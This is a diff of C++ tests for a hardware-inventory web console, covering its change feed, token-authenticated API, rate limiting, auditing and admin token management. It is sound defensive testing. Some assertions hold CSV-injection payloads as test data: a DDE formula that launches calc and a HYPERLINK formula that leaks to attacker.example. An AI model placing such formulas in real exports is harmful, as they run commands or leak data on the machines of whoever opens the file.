@@ -23,10 +23,13 @@
 #include "ConsoleTesting.h"
 #include "MemoryStore.h"
 #include "receiver/console/Accounts.h"
+#include "receiver/console/ApiTokens.h"
 #include "receiver/console/Console.h"
 #include "receiver/console/Csv.h"
 #include "receiver/console/HashQueue.h"
 #include "receiver/console/Web.h"
+#include "reading/SummaryJson.h"
+#include "reading/SurveyFacets.h"
 #include "receiver/http/Time.h"
 
 namespace gravelin::testing {
@@ -685,7 +688,8 @@ TEST_P(ConsoleTest, HostileReportIsEscapedOnEveryPageAndDefusedInTheCsv) {
     const std::vector<std::string> pages = {
         "/machines", "/machines?sort=maker&dir=desc", "/machines?q=javascript",
         "/machines/" + std::to_string(machine), "/scans/" + std::to_string(first),
-        "/diff?a=" + std::to_string(first) + "&b=" + std::to_string(second)};
+        "/diff?a=" + std::to_string(first) + "&b=" + std::to_string(second), "/changes",
+        "/changes?machine=" + std::to_string(machine)};
     for (const auto& path : pages) {
         const Response r = console_(request("GET", path, cookie));
         ASSERT_EQ(r.status, 200) << path;
@@ -714,6 +718,18 @@ TEST_P(ConsoleTest, HostileReportIsEscapedOnEveryPageAndDefusedInTheCsv) {
     EXPECT_NE(search.body.find("value=\"&lt;script&gt;\""), std::string::npos);
     EXPECT_NE(search.body.find("/machines/" + std::to_string(machine) + "\""), std::string::npos);
 
+    // The disk's serials are formulas: the change's CSV holds them, and no field of it starts
+    // one (the fields it shows alone, the serial number's, are defused like the list's).
+    const Response changesCsv = console_(request("GET", "/changes.csv?machine=" + std::to_string(machine), cookie));
+    ASSERT_EQ(changesCsv.status, 200);
+    EXPECT_NE(changesCsv.body.find("Serial number =cmd|' /C calc'!A0 → +SUM(1+1)*cmd|"), std::string::npos)
+        << changesCsv.body;
+    std::istringstream changeLines(changesCsv.body);
+    for (std::string line; std::getline(changeLines, line);) {
+        for (const std::regex& formula : {std::regex("(^|,)[=+@-]"), std::regex("(^|,)\"[=+@-]")}) {
+            EXPECT_FALSE(std::regex_search(line, formula)) << line;
+        }
+    }
     const Response csv = console_(request("GET", "/machines.csv", cookie));
     EXPECT_NE(csv.body.find(",\"'=HYPERLINK(\"\"http://attacker.example/?leak\"\",\"\"Open\"\")\","), std::string::npos)
         << csv.body.substr(0, 2000);
@@ -803,7 +819,10 @@ TEST_P(ConsoleTest, MachinePageShowsTheHardwareAsATechnicianReadsIt) {
     const Response latest = console_(request("GET", "/machines/" + std::to_string(machine), cookie));
     EXPECT_NE(latest.body.find("Latest scan"), std::string::npos);
     EXPECT_NE(latest.body.find("Samsung SSD 860 EVO 500GB"), std::string::npos);
-    EXPECT_EQ(latest.body.find("WDC WD5000AAKS-00YGA0"), std::string::npos);
+    // The hardware shown is the latest scan's (the old disk is named only where the page
+    // says what changed).
+    const std::string shown = latest.body.substr(0, latest.body.find("id=\"changes\""));
+    EXPECT_EQ(shown.find("WDC WD5000AAKS-00YGA0"), std::string::npos);
 }
 
 // A report of other hardware that claims the workstation's UUID and serial (anyone can post
@@ -1291,6 +1310,87 @@ TEST_P(ConsoleTest, DiffPageShowsTheMovedModuleAndTheReplacedDiskOnly) {
     EXPECT_EQ(console_(request("GET", "/diff?a=" + std::to_string(a) + "&b=99999999", cookie)).status, 404);
 }
 
+// A second scan that moved a module and replaced a disk: the feed, the machine's
+// timeline and the exports say so, each row leading to the machine and to the two scans
+// compared; the filters narrow it, and what they cannot read is said.
+TEST_P(ConsoleTest, TheChangeFeedAndTheTimelineShowWhatTheDifferFound) {
+    const std::string cookie = signIn();
+    // A machine of this test's own (the database may be shared), scanned twice.
+    MachineWmi before = workstation();
+    before.serial = "CHG-" + prefix_;
+    MachineWmi after = before;
+    after.disks[1] = {"Samsung SSD 860 EVO 500GB", "S3Z1NB0K812345A", "RVT04B6Q", 500107862016ULL};
+    after.volumeFree = 97334234624ULL;
+    const auto first = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", before), kStart - 2000));
+    const auto second = store_->addScan(
+        newScan(sealedScan("dell-libsmbios-Precision_390", after, moveFirstModule), kStart - 1000));
+    ASSERT_EQ(first.machineId, second.machineId);
+    const auto machine = first.machineId;
+    const std::string m = std::to_string(machine);
+    const std::string a = std::to_string(first.scanId);
+    const std::string b = std::to_string(second.scanId);
+    const std::string diffHref = "/diff?a=" + a + "&amp;b=" + b;
+
+    const Response feed = console_(request("GET", "/changes?machine=" + m, cookie));
+    ASSERT_EQ(feed.status, 200) << feed.body;
+    EXPECT_EQ(count(feed.body, "<span class=\"tag moved\">moved</span>"), 1u);
+    EXPECT_EQ(count(feed.body, "<span class=\"tag changed\">changed</span>"), 1u);
+    EXPECT_EQ(count(feed.body, "<span class=\"tag added\">"), 0u);
+    EXPECT_EQ(count(feed.body, "<span class=\"tag removed\">"), 0u);
+    EXPECT_EQ(count(feed.body, "href=\"" + diffHref + "\""), 2u);
+    EXPECT_NE(feed.body.find("href=\"/machines/" + m + "\""), std::string::npos);
+    EXPECT_NE(feed.body.find("Memory module"), std::string::npos);
+    EXPECT_NE(feed.body.find("S3Z1NB0K812345A"), std::string::npos) << "the new disk";
+    EXPECT_NE(feed.body.find("href=\"/changes\">Changes</a>"), std::string::npos) << "in the bar";
+
+    const Response moved = console_(request("GET", "/changes?machine=" + m + "&change=moved", cookie));
+    EXPECT_EQ(count(moved.body, "<span class=\"tag "), 1u);
+    EXPECT_NE(moved.body.find("<option value=\"moved\" selected>"), std::string::npos);
+    const Response disks = console_(request("GET", "/changes?machine=" + m + "&component=disk", cookie));
+    EXPECT_EQ(count(disks.body, "<span class=\"tag changed\">"), 1u);
+    EXPECT_EQ(count(disks.body, "<span class=\"tag moved\">"), 0u);
+    const Response future = console_(request("GET", "/changes?machine=" + m + "&since=2099-01-01", cookie));
+    EXPECT_NE(future.body.find("No change matches."), std::string::npos);
+    for (const std::string bad : {"change=swapped", "component=%3Cscript%3E", "since=yesterday",
+                                  "since=2026-02-01&until=2026-01-01", "machine=x", "after=12", "after=1.x"}) {
+        const Response r = console_(request("GET", "/changes?" + bad, cookie));
+        EXPECT_EQ(r.status, 400) << bad;
+        EXPECT_NE(r.body.find("class=\"alert\""), std::string::npos) << bad;
+        EXPECT_EQ(r.body.find("<script"), std::string::npos) << bad;
+    }
+
+    // The machine's page: the timeline under the scan that showed the changes.
+    const std::string page = console_(request("GET", "/machines/" + m, cookie)).body;
+    const auto section = page.find("id=\"changes\"");
+    ASSERT_NE(section, std::string::npos);
+    const std::string timeline = page.substr(section, page.find("</section>", section) - section);
+    EXPECT_EQ(count(timeline, "<li class=\"scan\">"), 1u) << "one scan changed something";
+    EXPECT_EQ(count(timeline, "<span class=\"tag "), 2u);
+    EXPECT_NE(timeline.find("href=\"" + diffHref + "\""), std::string::npos);
+    EXPECT_NE(timeline.find("href=\"/changes.csv?machine=" + m + "\""), std::string::npos);
+
+    // Exports, audited like the others.
+    const Response json = console_(request("GET", "/changes.json?machine=" + m, cookie));
+    ASSERT_EQ(json.status, 200);
+    const auto list = nlohmann::json::parse(json.body);
+    ASSERT_EQ(list.size(), 2u);
+    std::multiset<std::string> kinds;
+    for (const auto& c : list) {
+        kinds.insert(c["component"].get<std::string>() + " " + c["change"].get<std::string>());
+        EXPECT_EQ(c["machineId"], machine);
+        EXPECT_EQ(std::to_string(c["previousScanId"].get<std::int64_t>()), a);
+    }
+    EXPECT_EQ(kinds, (std::multiset<std::string>{"disk changed", "memory moved"}));
+    const Response csv = console_(request("GET", "/changes.csv?machine=" + m, cookie));
+    EXPECT_EQ(count(csv.body, "\r\n"), 3u);
+    EXPECT_NE(headerOf(csv, "Content-Disposition").find("machine-" + m + "-changes.csv"), std::string::npos);
+    const auto exports = auditOf(user_, std::string(storage::audit::kExport));
+    ASSERT_GE(exports.size(), 2u);
+    EXPECT_EQ(exports[0].target, "machine-" + m + "-changes.csv");
+    EXPECT_EQ(exports[1].target, "machine-" + m + "-changes.json");
+    EXPECT_EQ(exports[0].detail, "machine " + m);
+}
+
 TEST_P(ConsoleTest, ExportsGiveTheReportAsSentAsUtf8AndTheScanAsJson) {
     const std::string cookie = signIn();
     const auto scan = scanOf("workstation, first scan");
@@ -1389,6 +1489,38 @@ TEST_P(ConsoleTest, ListSearchesSortsAndPagesOnTheServer) {
     // Absurd pages and sort keys fall back instead of failing.
     EXPECT_EQ(console_(request("GET", "/machines?page=99999999999999999999&sort=%00&dir=x", cookie)).status, 200);
     EXPECT_EQ(console_(request("GET", "/machines?page=5000", cookie)).status, 200);
+}
+
+TEST_P(ConsoleTest, SurveyValuesInTheSearchFilterTheListAndTheCsv) {
+    const std::string cookie = signIn();
+    // Every machine's maker as the survey counts it: by its latest scan.
+    std::map<std::string, std::size_t> makers;
+    storage::MachineQuery all;
+    all.limit = 1000;
+    for (const auto& m : store_->machines(all).machines) {
+        const auto record = store_->scan(m.latestScanId);
+        ASSERT_TRUE(record);
+        const auto values = report::survey::facetsOf(report::summaryFromJsonText(record->summaryJson));
+        ++makers[report::survey::facet(values, report::survey::Dimension::Maker)];
+    }
+    ASSERT_GE(makers.size(), 2u) << "the seeds are machines of several makers";
+    for (const auto& [maker, n] : makers) {
+        std::string quoted;
+        for (const char ch : maker) {
+            if (ch == '"' || ch == '\\') quoted += '\\';
+            quoted += ch;
+        }
+        const std::string q = console::urlEncode("maker:\"" + quoted + "\"");
+        const Response r = console_(request("GET", "/machines?q=" + q, cookie));
+        EXPECT_EQ(r.status, 200) << maker;
+        EXPECT_EQ(count(r.body, "<td class=\"text\"><a href=\"/machines/"), std::min<std::size_t>(n, 50)) << maker;
+        EXPECT_EQ(console_(request("GET", "/machines.csv?q=" + q, cookie)).status, 200) << maker;
+    }
+    for (const std::string path : {"/machines?q=memory%3ADDR5", "/machines.csv?q=memory%3ADDR5"}) {
+        const Response unknown = console_(request("GET", path, cookie));
+        EXPECT_EQ(unknown.status, 400) << path;
+        EXPECT_NE(unknown.body.find("no survey dimension is called"), std::string::npos) << path;
+    }
 }
 
 // The strings of the SMBIOS system structure (type 1) of a real table, by their field
@@ -1637,6 +1769,10 @@ TEST_P(ConsoleTest, EachRouteAnswersEachRoleAsItsRowSays) {
         {"GET", "/scans/" + s, 303, 200, 200},
         {"GET", "/diff?a=" + o + "&b=" + s, 303, 200, 200},
         {"GET", "/machines.csv", 401, 200, 200},
+        {"GET", "/changes", 303, 200, 200},
+        {"GET", "/changes?component=memory&change=moved&since=2026-01-01", 303, 200, 200},
+        {"GET", "/changes.csv", 401, 200, 200},
+        {"GET", "/changes.json?machine=" + m, 401, 200, 200},
         {"GET", "/scans/" + s + ".json", 401, 200, 200},
         {"GET", "/scans/" + s + "/report", 401, 200, 200},
         {"GET", "/scans/" + s + "/report.xml", 401, 200, 200},
@@ -1647,6 +1783,8 @@ TEST_P(ConsoleTest, EachRouteAnswersEachRoleAsItsRowSays) {
         {"GET", "/machines/" + m + "/delete", 303, 403, 200},
         {"GET", "/conflicts", 303, 403, 200},
         {"GET", "/placeholders", 303, 403, 200},
+        {"GET", "/tokens", 303, 403, 200},
+        {"POST", "/tokens/revoke", 303, 403, 404},
         {"POST", "/placeholders/delete", 303, 403, 303},
         {"GET", "/webhooks", 303, 403, 200},
         {"POST", "/webhooks/retry", 303, 403, 400},
@@ -2038,6 +2176,380 @@ TEST(ConsoleAccounts, AddUserRefusesBadNamesAndShortPasswordsAndHashesWithArgon2
     console::addUser(store, "carol", "long enough", storage::Role::Admin, console::PasswordCost::Interactive);
     EXPECT_NE(store.account("carol")->passwordHash, bob->passwordHash);
     EXPECT_TRUE(console::hashPassword("x").starts_with("$argon2id$v=19$m=262144,t=3,"));
+}
+
+// ---- the API ----
+
+// A token of this test's own (the database may be shared), issued at `atMs` for `days`.
+std::string issueToken(storage::Store& store, const std::string& name, storage::Role role,
+                       std::int64_t atMs = kStart, std::uint32_t days = 0) {
+    storage::AuditEntry audit{0, atMs, "cli:test", std::string(storage::audit::kTokenAdded), "token " + name, "", ""};
+    const auto issued = console::issueApiToken(store, name, role, days, atMs, audit);
+    if (!issued) throw std::runtime_error("token name taken: " + name);
+    return issued->token;
+}
+
+Request apiRequest(const std::string& target, const std::string& authorization,
+                   const std::string& cookie = {}, const std::string& method = "GET") {
+    Request r;
+    r.method = method;
+    const auto q = target.find('?');
+    r.path = target.substr(0, q);
+    if (q != std::string::npos) r.query = target.substr(q + 1);
+    if (!authorization.empty()) r.headers.emplace_back("authorization", authorization);
+    if (!cookie.empty()) r.headers.emplace_back("cookie", cookie);
+    r.remoteAddress = "198.51.100.9";
+    return r;
+}
+
+// The error code of a JSON error answer; empty when the body is not one.
+std::string errorCode(const Response& r) {
+    const auto body = nlohmann::json::parse(r.body, nullptr, false);
+    if (!body.is_object() || !body.contains("error") || !body["error"].is_object()) return {};
+    return body["error"].value("code", "");
+}
+
+TEST_P(ConsoleTest, TheApiAnswersEachCredentialAsItsRowSays) {
+    const std::string viewer = issueToken(*store_, "viewer-" + prefix_, storage::Role::Viewer);
+    const std::string admin = issueToken(*store_, "admin-" + prefix_, storage::Role::Admin);
+    // Issued three days ago for one day.
+    const std::string expired =
+        issueToken(*store_, "expired-" + prefix_, storage::Role::Viewer, kStart - 3 * 86400000LL, 1);
+    const std::string revoked = issueToken(*store_, "revoked-" + prefix_, storage::Role::Admin);
+    ASSERT_EQ(store_->revokeApiToken("revoked-" + prefix_, kStart, {0, kStart, "cli:test", "token-revoked", "t", "", ""}),
+              storage::TokenRevocation::Revoked);
+    // A token of the right shape that was never issued, and one with a byte changed.
+    std::string unknown = viewer;
+    unknown.back() = unknown.back() == 'A' ? 'B' : 'A';
+    const std::string session = signIn();
+
+    struct Row {
+        const char* what;
+        std::string authorization, cookie;
+        int status;
+        const char* code;  // empty: a 200 answer
+    };
+    const Row rows[] = {
+        {"no header", "", "", 401, "token_missing"},
+        {"a session cookie alone", "", session, 401, "token_missing"},
+        {"another scheme", "Basic " + viewer, "", 401, "token_malformed"},
+        {"no blank", "Bearer" + viewer, "", 401, "token_malformed"},
+        {"a truncated token", "Bearer " + viewer.substr(0, viewer.size() - 1), "", 401, "token_malformed"},
+        {"two tokens", "Bearer " + viewer + " " + admin, "", 401, "token_malformed"},
+        {"unknown", "Bearer " + unknown, "", 401, "token_invalid"},
+        {"expired", "Bearer " + expired, "", 401, "token_expired"},
+        {"revoked", "Bearer " + revoked, "", 401, "token_revoked"},
+        {"viewer", "Bearer " + viewer, "", 200, ""},
+        {"viewer, lower-case scheme", "bearer " + viewer, "", 200, ""},
+        {"admin", "Bearer " + admin, "", 200, ""},
+    };
+    for (const Row& row : rows) {
+        SCOPED_TRACE(row.what);
+        const Response r = console_(apiRequest("/api/v1/machines", row.authorization, row.cookie));
+        EXPECT_EQ(r.status, row.status) << r.body;
+        EXPECT_EQ(errorCode(r), row.code);
+        EXPECT_EQ(headerOf(r, "Content-Type"), "application/json");
+        EXPECT_EQ(headerOf(r, "Cache-Control"), "no-store");
+        EXPECT_TRUE(nlohmann::json::accept(r.body));
+        const std::string challenge = headerOf(r, "WWW-Authenticate");
+        if (row.status == 401) {
+            EXPECT_TRUE(challenge.starts_with("Bearer ")) << challenge;
+            // RFC 6750: no error attribute when no token was given.
+            EXPECT_EQ(challenge.find("invalid_token") != std::string::npos, std::string(row.code) != "token_missing");
+        } else {
+            EXPECT_EQ(challenge, "");
+            EXPECT_EQ(nlohmann::json::parse(r.body)["total"], store_->machines({}).total);
+        }
+    }
+    // The document needs no token; a token does not open the console's pages either.
+    const Response document = console_(apiRequest("/api/v1/openapi.json", ""));
+    EXPECT_EQ(document.status, 200);
+    EXPECT_EQ(nlohmann::json::parse(document.body)["openapi"], "3.1.0");
+    EXPECT_EQ(console_(apiRequest("/machines", "Bearer " + viewer)).status, 303);
+    // Only the hash is stored.
+    for (const auto& t : store_->apiTokens()) {
+        EXPECT_EQ(t.tokenHash.find(viewer.substr(5)), std::string::npos);
+        EXPECT_EQ(t.tokenHash.size(), 64u);
+    }
+    EXPECT_TRUE(viewer.starts_with(console::kApiTokenPrefix));
+    EXPECT_NE(viewer, admin);
+}
+
+TEST_P(ConsoleTest, ATokenPastItsBudgetIsAnswered429WithRetryAfterAndOthersAreNot) {
+    const auto console = makeConsole("the console's secret", [](console::ConsoleOptions& o) {
+        o.apiRequestsPerMinute = 60;  // one a second
+        o.apiBurst = 3;
+    });
+    const std::string busy = "Bearer " + issueToken(*store_, "busy-" + prefix_, storage::Role::Viewer);
+    const std::string calm = "Bearer " + issueToken(*store_, "calm-" + prefix_, storage::Role::Viewer);
+    for (int i = 0; i < 3; ++i) EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 200) << i;
+    const Response refused = console(apiRequest("/api/v1/survey", busy));
+    EXPECT_EQ(refused.status, 429);
+    EXPECT_EQ(errorCode(refused), "rate_limited");
+    EXPECT_EQ(headerOf(refused, "Retry-After"), "1");
+    EXPECT_EQ(headerOf(refused, "Cache-Control"), "no-store");
+    EXPECT_EQ(console(apiRequest("/api/v1/survey", calm)).status, 200) << "each token has its own budget";
+    // Refusals earn nothing back: still refused until a second has passed.
+    EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 429);
+    now_ += 999;
+    EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 429);
+    now_ += 1;
+    EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 200);
+    EXPECT_EQ(console(apiRequest("/api/v1/survey", busy)).status, 429);
+    // Refused credentials cost no token's budget.
+    for (int i = 0; i < 5; ++i) EXPECT_EQ(console(apiRequest("/api/v1/survey", "Bearer grvt_x")).status, 401);
+}
+
+TEST_P(ConsoleTest, ApiUsesAreAuditedOncePerTokenPerMinuteWithTheCountBetween) {
+    const std::string name = "audited-" + prefix_;
+    const std::string token = "Bearer " + issueToken(*store_, name, storage::Role::Viewer);
+    const std::string other = "other-" + prefix_;
+    const std::string otherToken = "Bearer " + issueToken(*store_, other, storage::Role::Viewer);
+    const std::string actor = "token:" + name;
+    EXPECT_GE(auditOf("cli:test", std::string(storage::audit::kTokenAdded)).size(), 2u);
+    for (int i = 0; i < 5; ++i) {
+        ASSERT_EQ(console_(apiRequest("/api/v1/machines", token)).status, 200);
+        now_ += 1000;
+    }
+    EXPECT_EQ(console_(apiRequest("/api/v1/machines", otherToken)).status, 200);
+    auto entries = auditOf(actor);
+    ASSERT_EQ(entries.size(), 1u) << "one entry for the minute";
+    EXPECT_EQ(entries[0].action, storage::audit::kApiUsed);
+    EXPECT_EQ(entries[0].target, "GET /api/v1/machines");
+    EXPECT_EQ(entries[0].address, "198.51.100.9");
+    EXPECT_EQ(entries[0].atMs, kStart);
+    EXPECT_EQ(auditOf("token:" + other).size(), 1u) << "each token has its own minute";
+    // A request the API answers with an error is a use all the same.
+    EXPECT_EQ(console_(apiRequest("/api/v1/machines/x", token)).status, 400);
+    now_ = kStart + 60000;
+    ASSERT_EQ(console_(apiRequest("/api/v1/survey", token)).status, 200);
+    entries = auditOf(actor);
+    ASSERT_EQ(entries.size(), 2u);
+    EXPECT_EQ(entries[0].target, "GET /api/v1/survey");
+    EXPECT_EQ(entries[0].detail, "6 requests since the last entry") << "four more, the bad id and this one";
+    const auto stored = store_->apiTokenWithHash(console::apiTokenHash(token.substr(7)));
+    ASSERT_TRUE(stored);
+    EXPECT_EQ(stored->lastUsedMs, kStart + 60000);
+}
+
+TEST_P(ConsoleTest, ApiPagesTheMachinesWithAnOpaqueCursorThatKeepsItsSearchAndOrder) {
+    const std::string token = "Bearer " + issueToken(*store_, "pager-" + prefix_, storage::Role::Viewer);
+    const auto get = [&](const std::string& target) { return console_(apiRequest(target, token)); };
+    // What the store lists for this search and order, whole.
+    storage::MachineQuery whole;
+    whole.sort = storage::MachineSort::Model;
+    whole.descending = false;
+    whole.limit = 1000;
+    std::vector<std::int64_t> expected;
+    for (const auto& m : store_->machines(whole).machines) expected.push_back(m.id);
+    ASSERT_GE(expected.size(), 3u);
+
+    std::vector<std::int64_t> walked;
+    std::string target = "/api/v1/machines?sort=model&dir=asc&limit=2";
+    for (int pages = 0; pages < 1000; ++pages) {
+        const Response r = get(target);
+        ASSERT_EQ(r.status, 200) << r.body;
+        const auto body = nlohmann::json::parse(r.body);
+        EXPECT_LE(body["machines"].size(), 2u);
+        EXPECT_EQ(body["total"], expected.size());
+        for (const auto& m : body["machines"]) walked.push_back(m["id"]);
+        if (body["next"].is_null()) break;
+        // The cursor alone carries the order: asking with another one changes nothing.
+        target = "/api/v1/machines?limit=2&sort=memory&dir=desc&cursor=" + body["next"].get<std::string>();
+    }
+    EXPECT_EQ(walked, expected);
+
+    // A search is kept by the cursor too.
+    const auto searched = nlohmann::json::parse(get("/api/v1/machines?q=Dell&limit=1").body);
+    EXPECT_EQ(searched["machines"].size(), 1u);
+    if (!searched["next"].is_null()) {
+        const auto second = nlohmann::json::parse(get("/api/v1/machines?cursor=" + searched["next"].get<std::string>()).body);
+        EXPECT_EQ(second["total"], searched["total"]);
+    }
+
+    const std::string machine = std::to_string(machineOf("workstation, first scan"));
+    const auto scans = nlohmann::json::parse(get("/api/v1/machines/" + machine + "/scans?limit=1").body);
+    ASSERT_TRUE(scans["next"].is_string());
+    const std::string scansCursor = scans["next"];
+    const std::string tampered = console::base64Url(R"({"v":1,"scope":"machines","q":"","s":"nonsense","d":true,"u":"","o":-1})");
+    struct Bad {
+        std::string target;
+        const char* code;
+    };
+    const Bad bad[] = {
+        {"/api/v1/machines?cursor=not-a-cursor!", "bad_cursor"},
+        {"/api/v1/machines?cursor=" + console::base64Url("[]"), "bad_cursor"},
+        {"/api/v1/machines?cursor=" + tampered, "bad_cursor"},
+        {"/api/v1/machines?cursor=" + scansCursor, "bad_cursor"},
+        {"/api/v1/machines/" + std::to_string(machineOf("PowerEdge R630")) + "/scans?cursor=" + scansCursor, "bad_cursor"},
+        {"/api/v1/machines?limit=0", "bad_limit"},
+        {"/api/v1/machines?limit=501", "bad_limit"},
+        {"/api/v1/machines?limit=ten", "bad_limit"},
+        {"/api/v1/machines?sort=price", "bad_sort"},
+        {"/api/v1/machines?dir=up", "bad_dir"},
+        {"/api/v1/machines?unseen=2026-02-30", "bad_date"},
+        {"/api/v1/machines?q=" + std::string(201, 'x'), "bad_search"},
+    };
+    for (const Bad& b : bad) {
+        SCOPED_TRACE(b.target.substr(0, 120));
+        const Response r = get(b.target);
+        EXPECT_EQ(r.status, 400);
+        EXPECT_EQ(errorCode(r), b.code);
+    }
+    EXPECT_EQ(get("/api/v1/machines?limit=500").status, 200);
+}
+
+TEST_P(ConsoleTest, ApiGivesMachinesScansReportsChangesAndTheSurvey) {
+    const std::string token = "Bearer " + issueToken(*store_, "reader-" + prefix_, storage::Role::Viewer);
+    const auto get = [&](const std::string& target) { return console_(apiRequest(target, token)); };
+    const auto a = scanOf("workstation, first scan"), b = scanOf("workstation, module moved and disk replaced");
+    const auto machine = machineOf("workstation, first scan");
+    const auto received = report::receiveSealed(seeds()[0].sealed).report;
+
+    const auto one = nlohmann::json::parse(get("/api/v1/machines/" + std::to_string(machine)).body);
+    const auto stored = store_->machine(machine);
+    ASSERT_TRUE(stored);
+    EXPECT_EQ(one["machine"]["id"], machine);
+    EXPECT_EQ(one["machine"]["columns"]["model"], stored->latest.model);
+    EXPECT_EQ(one["machine"]["columns"]["memoryBytes"], stored->latest.memoryBytes);
+    EXPECT_EQ(one["machine"]["scanCount"], stored->scanCount);
+    EXPECT_TRUE(one["notes"].is_array());
+
+    const auto scans = nlohmann::json::parse(get("/api/v1/machines/" + std::to_string(machine) + "/scans").body);
+    // The machine's scans as the store lists them, newest first (the database may be shared:
+    // other tests' scans of the same reports count too).
+    ASSERT_EQ(scans["scans"].size(), stored->scanCount);
+    const auto rows = store_->scans(machine);
+    for (std::size_t i = 0; i < rows.size(); ++i) {
+        EXPECT_EQ(scans["scans"][i]["id"], rows[i].id);
+        if (i > 0) {
+            EXPECT_LE(scans["scans"][i]["receivedAtMs"], scans["scans"][i - 1]["receivedAtMs"]);
+        }
+    }
+    EXPECT_TRUE(scans["next"].is_null());
+
+    const auto scan = nlohmann::json::parse(get("/api/v1/scans/" + std::to_string(a)).body);
+    EXPECT_EQ(scan["scan"]["id"], a);
+    EXPECT_EQ(scan["scan"]["receipt"], store_->scan(a)->row.receipt);
+    EXPECT_EQ(scan["summary"]["model"], "Precision WorkStation 390");
+    EXPECT_EQ(scan["summary"]["memory"].size(), 4u);
+
+    const Response raw = get("/api/v1/scans/" + std::to_string(a) + "/report");
+    EXPECT_EQ(raw.status, 200);
+    EXPECT_EQ(headerOf(raw, "Content-Type"), "application/xml; charset=" + store_->scan(a)->row.encoding);
+    EXPECT_EQ(raw.body, received.reportBytes);
+    const Response utf8 = get("/api/v1/scans/" + std::to_string(a) + "/report.xml");
+    EXPECT_EQ(headerOf(utf8, "Content-Type"), "application/xml; charset=utf-8");
+    EXPECT_EQ(utf8.body, received.text);
+    EXPECT_EQ(headerOf(utf8, "Cache-Control"), "no-store");
+
+    // From the first scan to the second: what the differ says, in that direction.
+    const Response changes = get("/api/v1/diff?from=" + std::to_string(a) + "&to=" + std::to_string(b));
+    ASSERT_EQ(changes.status, 200) << changes.body;
+    // Compared with the summaries the API gives for the two scans (another test sharing the
+    // database may have stored an edited one).
+    const auto summaryOf = [&](std::int64_t id) {
+        return report::summaryFromJson(nlohmann::json::parse(get("/api/v1/scans/" + std::to_string(id)).body)["summary"]);
+    };
+    const auto expected = report::diff(summaryOf(a), summaryOf(b));
+    EXPECT_FALSE(expected.empty());
+    EXPECT_EQ(nlohmann::json::parse(changes.body)["changes"], report::toJson(expected));
+    EXPECT_EQ(nlohmann::json::parse(changes.body)["machineId"], machine);
+    EXPECT_NE(changes.body.find("05176522"), std::string::npos) << "the moved module";
+
+    const auto survey = nlohmann::json::parse(get("/api/v1/survey?top=3").body);
+    EXPECT_EQ(survey["machines"], store_->machines({}).total);
+    for (const auto& [name, values] : survey["dimensions"].items()) EXPECT_LE(values.size(), 5u) << name;
+
+    struct Refusal {
+        std::string target;
+        int status;
+        const char* code;
+    };
+    const std::string other = std::to_string(scanOf("PowerEdge R630"));
+    const Refusal refusals[] = {
+        {"/api/v1/machines/abc", 400, "bad_id"},
+        {"/api/v1/machines/-1", 400, "bad_id"},
+        {"/api/v1/machines/99999999999999999999", 400, "bad_id"},
+        {"/api/v1/machines/99999999", 404, "not_found"},
+        {"/api/v1/machines/99999999/scans", 404, "not_found"},
+        {"/api/v1/scans/1e3", 400, "bad_id"},
+        {"/api/v1/scans/99999999", 404, "not_found"},
+        {"/api/v1/scans/99999999/report", 404, "not_found"},
+        {"/api/v1/scans/x/report.xml", 400, "bad_id"},
+        {"/api/v1/diff?from=" + std::to_string(a), 400, "missing_parameter"},
+        {"/api/v1/diff?from=a&to=b", 400, "bad_id"},
+        {"/api/v1/diff?from=" + std::to_string(a) + "&to=" + other, 400, "different_machines"},
+        {"/api/v1/diff?from=" + std::to_string(a) + "&to=99999999", 404, "not_found"},
+        {"/api/v1/survey?since=2026-13-01", 400, "bad_date"},
+        {"/api/v1/survey?since=2026-12-02&until=2026-12-01", 400, "bad_period"},
+        {"/api/v1/survey?top=0", 400, "bad_top"},
+        {"/api/v1/survey?top=101", 400, "bad_top"},
+        {"/api/v1/scans", 404, "not_found"},
+        {"/api/v1/", 404, "not_found"},
+        {"/api/v2/machines", 404, "not_found"},
+        {"/api/v1/machines//scans", 404, "not_found"},
+    };
+    for (const Refusal& r : refusals) {
+        SCOPED_TRACE(r.target);
+        const Response answer = get(r.target);
+        EXPECT_EQ(answer.status, r.status) << answer.body;
+        EXPECT_EQ(errorCode(answer), r.code);
+        EXPECT_EQ(headerOf(answer, "Content-Type"), "application/json");
+    }
+    const Response post = console_(apiRequest("/api/v1/machines", token, {}, "POST"));
+    EXPECT_EQ(post.status, 405);
+    EXPECT_EQ(errorCode(post), "method_not_allowed");
+    EXPECT_EQ(headerOf(post, "Allow"), "GET, HEAD");
+}
+
+TEST_P(ConsoleTest, AnAdminMakesATokenSeenOnceAndRevokesIt) {
+    const std::string admin = signIn();
+    const std::string form = "token=" + formTokenOf(admin);
+    const std::string name = "sync-" + prefix_;
+    const Response made = console_(request("POST", "/tokens", admin, form + "&name=" + name + "&role=viewer&days=30"));
+    ASSERT_EQ(made.status, 201) << made.body;
+    std::smatch shown;
+    ASSERT_TRUE(std::regex_search(made.body, shown, std::regex("id=\"new-token-value\">(grvt_[A-Za-z0-9_-]{43})<")));
+    const std::string token = shown[1];
+    EXPECT_EQ(headerOf(made, "Cache-Control"), "no-store");
+    EXPECT_EQ(console_(apiRequest("/api/v1/machines", "Bearer " + token)).status, 200);
+    // Listed afterwards without the token itself.
+    const std::string listed = console_(request("GET", "/tokens", admin)).body;
+    EXPECT_NE(listed.find("<bdi>" + name + "</bdi>"), std::string::npos);
+    EXPECT_EQ(listed.find(token), std::string::npos);
+    const auto stored = store_->apiTokenWithHash(console::apiTokenHash(token));
+    ASSERT_TRUE(stored);
+    EXPECT_EQ(stored->createdBy, user_);
+    EXPECT_EQ(stored->expiresAtMs, kStart + 30 * 86400000LL);
+
+    struct Refused {
+        std::string body;
+        int status;
+    };
+    const Refused refused[] = {
+        {"&name=" + name + "&role=viewer&days=1", 409},
+        {"&name=bad%20name&role=viewer&days=1", 400},
+        {"&name=x-" + prefix_ + "&role=root&days=1", 400},
+        {"&name=x-" + prefix_ + "&role=admin&days=-1", 400},
+        {"&name=x-" + prefix_ + "&role=admin&days=99999", 400},
+    };
+    for (const Refused& r : refused) {
+        const Response answer = console_(request("POST", "/tokens", admin, form + r.body));
+        EXPECT_EQ(answer.status, r.status) << r.body;
+        EXPECT_EQ(answer.body.find("new-token-value"), std::string::npos) << r.body;
+    }
